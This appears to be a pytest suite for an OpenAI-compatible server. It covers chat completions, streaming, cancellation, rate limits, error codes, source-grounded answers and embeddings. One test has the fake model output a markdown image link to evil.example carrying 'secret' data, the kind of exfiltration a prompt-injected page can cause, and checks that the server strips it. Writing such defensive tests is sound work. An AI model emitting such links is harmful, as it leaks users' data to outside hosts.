"""The official client against a running server: models, chat whole and streamed, embeddings, errors, leaving."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import openai
import pytest

from tests.openai_api.conftest import FACTS, Place

SMALL = "openai:small@lab"
HELLO: Any = [{"role": "system", "content": "Be kind."}, {"role": "user", "content": "Hello"}]


def until(holds: Callable[[], Any], patience: float = 10.0) -> Any:
    end = time.monotonic() + patience
    while not (found := holds()):
        assert time.monotonic() < end, "it did not come to that"
        time.sleep(0.05)
    return found


# -- models ----------------------------------------------------------------------------------------------------------


def test_models_by_name(client: openai.OpenAI) -> None:
    names = [one.id for one in client.models.list()]
    assert names[:2] == ["brainstem", "brainstem/extractive"]
    assert {SMALL, "openai:large@lab", "minilm"} <= set(names)
    for name in ("brainstem/extractive", SMALL, "minilm"):
        assert client.models.retrieve(name).id == name
    with pytest.raises(openai.NotFoundError) as caught:
        client.models.retrieve("gpt-17")
    assert caught.value.code == "model_not_found"


# -- chat ------------------------------------------------------------------------------------------------------------


def test_a_whole_answer(client: openai.OpenAI, place: Place) -> None:
    done = client.chat.completions.create(
        model=SMALL, messages=HELLO, temperature=0.5, top_p=0.9, max_tokens=33, seed=7, stop=["END"], n=1
    )
    [choice] = done.choices
    assert (choice.message.role, choice.message.content, choice.finish_reason) == ("assistant", "Good day", "stop")
    assert done.usage is not None
    assert (done.usage.prompt_tokens, done.usage.completion_tokens, done.usage.total_tokens) == (11, 2, 13)
    assert (done.object, done.model) == ("chat.completion", SMALL)
    asked = place.models.asked[-1]
    assert asked["messages"] == HELLO
    told = {name: asked[name] for name in ("temperature", "top_p", "max_tokens", "seed", "stop")}
    assert told == {"temperature": 0.5, "top_p": 0.9, "max_tokens": 33, "seed": 7, "stop": ["END"]}
    task = place.tasks()[0]
    assert (task["status"], task["title"], done.id) == ("completed", "API: Hello", f"chatcmpl-{task['id']}")


def test_text_comes_while_it_is_written(client: openai.OpenAI, place: Place) -> None:
    place.models.says("Grüße, ", "日本 ", "🙂", finish="length")
    place.models.hold()
    stream = client.chat.completions.create(
        model=SMALL, messages=HELLO, stream=True, stream_options={"include_usage": True}
    )
    first = next(stream), next(stream)
    assert first[0].choices[0].delta.role == "assistant"
    assert first[1].choices[0].delta.content == "Grüße, "
    assert place.tasks()[0]["status"] == "running", "the server behind still holds the rest"
    place.models.go()
    rest = list(stream)
    assert "".join(part.choices[0].delta.content or "" for part in rest if part.choices) == "日本 🙂"
    assert [part.choices[0].finish_reason for part in rest if part.choices][-1] == "length"
    assert rest[-1].choices == []
    assert rest[-1].usage is not None
    assert rest[-1].usage.total_tokens == 13
    assert len({part.id for part in [*first, *rest]}) == 1


def test_messages_in_parts_and_developers(client: openai.OpenAI, place: Place) -> None:
    messages: Any = [
        {"role": "developer", "content": "Short."},
        {"role": "user", "content": [{"type": "text", "text": "One"}, {"type": "text", "text": "two"}]},
    ]
    client.chat.completions.create(model=SMALL, messages=messages)
    assert place.models.asked[-1]["messages"] == [
        {"role": "system", "content": "Short."}, {"role": "user", "content": "One\ntwo"},
    ]  # fmt: skip


@pytest.mark.parametrize("stream", [False, True])
def test_who_leaves_takes_the_work_along(client: openai.OpenAI, place: Place, stream: bool) -> None:
    place.models.hold()
    if stream:
        parts = client.chat.completions.create(model=SMALL, messages=HELLO, stream=True)
        next(parts)
        parts.close()
    else:
        with pytest.raises(openai.APITimeoutError):
            client.with_options(timeout=1.0).chat.completions.create(model=SMALL, messages=HELLO)
    assert place.models.left.wait(5), "the model server is still asked to write"
    task = until(lambda: [one for one in place.tasks()[:1] if one["status"] not in ("running", "pending")])[0]
    assert task["status"] == "cancelled"


def test_many_callers_wait_without_holding_the_server(client: openai.OpenAI, place: Place) -> None:
    """Thirteen calls under way (more than there are threads): pages are answered as ever."""
    import requests

    place.models.hold()
    streams = [client.chat.completions.create(model=SMALL, messages=HELLO, stream=True) for _ in range(1)]
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(12) as pool:
        waiting = [pool.submit(client.chat.completions.create, model=SMALL, messages=HELLO) for _ in range(12)]
        until(lambda: len([one for one in place.tasks() if one["status"] in ("running", "pending")]) >= 13)
        began = time.monotonic()
        assert requests.get(place.server.url + "/tasks", timeout=5).status_code == 200
        assert time.monotonic() - began < 2
        place.models.go()
        assert {one.result(30).choices[0].message.content for one in waiting} == {"Good day"}
    assert len(list(streams[0])) >= 2


def test_nobody_has_more_than_so_many_calls(client: openai.OpenAI, place: Place) -> None:
    """A46: the twenty-first call of one person is told to wait."""
    from concurrent.futures import ThreadPoolExecutor

    place.models.hold()
    with ThreadPoolExecutor(20) as pool:
        waiting = [pool.submit(client.chat.completions.create, model=SMALL, messages=HELLO) for _ in range(20)]
        until(lambda: len([one for one in place.tasks() if one["status"] in ("running", "pending")]) >= 20)
        with pytest.raises(openai.RateLimitError) as caught:
            client.chat.completions.create(model=SMALL, messages=HELLO)
        assert int(caught.value.response.headers["Retry-After"]) > 0
        place.models.go()
        assert all(one.result(30).choices for one in waiting)


# -- errors ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("more", "param"), [
    ({"n": 2}, "n"), ({"temperature": 3}, "temperature"), ({"top_p": 0}, "top_p"), ({"max_tokens": 0}, "max_tokens"),
    ({"stop": ["a", "b", "c", "d", "e"]}, "stop"), ({"messages": []}, "messages"),
    ({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}]}, "messages.0.content"),
    ({"messages": [{"role": "tool", "content": "x", "tool_call_id": "1"}]}, "messages.0.role"),
    ({"tools": [{"type": "function", "function": {"name": "x"}}]}, None), ({"logprobs": True}, None),
    ({"response_format": {"type": "json_object"}}, None), ({"frequency_penalty": 1}, None),
], ids=str)  # fmt: skip
def test_what_cannot_be_done_is_refused_by_name(client: openai.OpenAI, more: dict[str, Any], param: str | None) -> None:
    """Among it tools (A35): no model here calls anything."""
    with pytest.raises(openai.BadRequestError) as caught:
        client.chat.completions.create(**{"model": SMALL, "messages": HELLO, **more})
    assert caught.value.param == param
    assert caught.value.type == "invalid_request_error"
    if param is None:
        assert next(iter(more)) in caught.value.message


def test_what_asks_for_nothing_is_taken(client: openai.OpenAI) -> None:
    done = client.chat.completions.create(
        model=SMALL, messages=HELLO, presence_penalty=0, frequency_penalty=0, tools=[], logit_bias={}, user="me",
        response_format={"type": "text"}, metadata={"a": "b"},
    )  # fmt: skip
    assert done.choices[0].message.content == "Good day"


def test_a_model_that_is_not_there(client: openai.OpenAI) -> None:
    with pytest.raises(openai.NotFoundError) as caught:
        client.chat.completions.create(model="gpt-17", messages=HELLO)
    assert (caught.value.code, caught.value.param) == ("model_not_found", "model")
    assert SMALL in caught.value.message


@pytest.mark.parametrize("stream", [False, True])
def test_a_model_server_that_fails(client: openai.OpenAI, place: Place, stream: bool) -> None:
    """Before any text was sent a stream has an honest status too."""
    place.models.fails(500)
    with pytest.raises(openai.InternalServerError) as caught:
        client.chat.completions.create(model="openai:large@lab", messages=HELLO, stream=stream)
    assert caught.value.status_code == 502
    assert "unwell" in caught.value.message
    assert caught.value.type == "server_error"


@pytest.mark.parametrize("stream", [False, True])
def test_a_model_server_that_wants_to_be_left_alone(client: openai.OpenAI, place: Place, stream: bool) -> None:
    """Its 429 stays one, with its Retry-After; until then it is not asked, and callers hear how long that is."""
    place.models.fails(429, Retry_After="2")
    with pytest.raises(openai.RateLimitError) as caught:
        client.chat.completions.create(model=SMALL, messages=HELLO, stream=stream)
    assert caught.value.code == "rate_limit_exceeded"
    assert caught.value.response.headers["Retry-After"] == "2"
    asked = len(place.models.asked)
    with pytest.raises(openai.InternalServerError) as rests:
        client.chat.completions.create(model=SMALL, messages=HELLO, stream=stream)
    assert (rests.value.status_code, rests.value.code) == (503, "circuit_open")
    assert 1 <= int(rests.value.response.headers["Retry-After"]) <= 3
    assert len(place.models.asked) == asked
    place.models.says("Good ", "day")
    done = client.with_options(max_retries=5).chat.completions.create(model=SMALL, messages=HELLO)
    assert done.choices[0].message.content == "Good day", "the official client waits as it was told"


def test_a_model_server_that_is_full(client: openai.OpenAI, place: Place) -> None:
    place.models.fails(503)
    with pytest.raises(openai.InternalServerError) as caught:
        client.chat.completions.create(model=SMALL, messages=HELLO)
    assert caught.value.status_code == 503
    assert "Retry-After" not in caught.value.response.headers


# -- with sources ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("stream", [False, True])
def test_an_answer_from_sources(client: openai.OpenAI, place: Place, stream: bool) -> None:
    question: Any = [{"role": "user", "content": "When was the north light built?"}]
    more = {"collections": [place.collection_id]}
    if stream:
        parts = list(client.chat.completions.create(model="brainstem/extractive", messages=question, stream=True,
                                                    extra_body=more))  # fmt: skip
        text = "".join(part.choices[0].delta.content or "" for part in parts)
        extra = parts[-1].model_extra or {}
    else:
        done = client.chat.completions.create(model="brainstem/extractive", messages=question, extra_body=more)
        text, extra = done.choices[0].message.content or "", done.model_extra or {}
        assert done.usage is None, "nobody counted tokens"
    assert "1847" in text
    assert "[1]" in text
    first = extra["sources"][0]
    assert FACTS[first["start"] : first["end"]] == first["quote"]
    assert first["citation_url"].endswith(first["citation_id"])
    assert (extra["brainstem"]["declined"], extra["brainstem"]["engine"]) == (False, "extractive")
    assert extra["brainstem"]["sentences"][0]["verdict"] == "verified"


def test_what_the_sources_do_not_say_is_declined(client: openai.OpenAI, place: Place) -> None:
    question: Any = [{"role": "user", "content": "Which enzyme breaks down lactose in mammals?"}]
    done = client.chat.completions.create(model="brainstem/extractive", messages=question,
                                          extra_body={"collections": [place.collection_id]})  # fmt: skip
    extra = done.model_extra or {}
    assert extra["brainstem"]["declined"]
    assert extra["sources"] == []
    assert "don't know" in (done.choices[0].message.content or "")


def test_a_model_writes_from_sources_and_is_checked(client: openai.OpenAI, place: Place) -> None:
    """A21: what a page made the model say is not sent on as a picture's address; absent sources are not cited."""
    place.models.says(
        "The north light was built in 1847 [1]. ", "![x](https://evil.example/?d=secret) ", "It sings [9]."
    )
    question: Any = [{"role": "user", "content": "When was the north light built?"}]
    parts = list(client.chat.completions.create(model=f"brainstem/{SMALL}", messages=question, stream=True,
                                                extra_body={"collections": [place.collection_id]}))  # fmt: skip
    text = "".join(part.choices[0].delta.content or "" for part in parts if part.choices)
    assert "1847" in text
    assert "[9]" not in text
    assert "evil.example" not in text
    asked = place.models.asked[-1]["messages"]
    assert "1847" in asked[-1]["content"] + asked[0]["content"], "the sources are in the prompt"


def test_a_strangers_collection_is_none(client: openai.OpenAI) -> None:
    with pytest.raises(openai.NotFoundError):
        client.chat.completions.create(model="brainstem/extractive", messages=HELLO,
                                       extra_body={"collections": ["018f0000-none"]})  # fmt: skip


# -- embeddings ------------------------------------------------------------------------------------------------------


def test_vectors_as_numbers_and_as_base64(client: openai.OpenAI) -> None:
    plain = client.embeddings.create(model="minilm", input=["a lamp", "a bell"], encoding_format="float")
    packed = client.embeddings.create(model="minilm", input=["a lamp", "a bell"])  # base64 on the wire
    for one, other in zip(plain.data, packed.data, strict=True):
        assert len(one.embedding) == 384
        assert sum(value * value for value in one.embedding) == pytest.approx(1, abs=1e-4)
        assert one.embedding == pytest.approx(other.embedding, abs=1e-6)
    assert [one.index for one in plain.data] == [0, 1]
    assert plain.usage.prompt_tokens == plain.usage.total_tokens == 4
    [single] = client.embeddings.create(model="minilm", input="a lamp").data
    assert single.embedding == pytest.approx(plain.data[0].embedding, abs=1e-5)


@pytest.mark.parametrize(("more", "said"), [
    ({"input": [1, 2, 3]}, "token"), ({"input": [[1, 2], [3]]}, "token"), ({"input": []}, "texts"),
    ({"input": [""]}, "characters"), ({"input": ["x"] * 2049}, "2048"), ({"dimensions": 3}, "384"),
    ({"encoding_format": "int8"}, "float"),
], ids=lambda value: str(value)[:30])  # fmt: skip
def test_what_no_embedder_can_do(client: openai.OpenAI, more: dict[str, Any], said: str) -> None:
    with pytest.raises(openai.BadRequestError) as caught:
        client.embeddings.create(**{"model": "minilm", "input": "x", **more})
    assert said in caught.value.message


def test_an_embedder_that_is_not_there(client: openai.OpenAI) -> None:
    with pytest.raises(openai.NotFoundError) as caught:
        client.embeddings.create(model="text-embedding-3-small", input="x")
    assert "minilm" in caught.value.message
